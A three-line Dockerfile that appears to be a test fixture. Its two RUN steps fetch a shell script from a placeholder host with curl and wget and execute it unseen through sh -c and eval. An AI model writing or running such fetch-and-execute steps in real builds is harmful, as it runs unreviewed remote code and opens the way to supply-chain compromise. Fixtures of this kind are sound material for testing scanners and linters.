FROM debian:bookworm-slim
RUN sh -c "$(curl -fsSL https://a.example/i.sh)"
RUN eval "$(wget -qO- https://a.example/i.sh)"
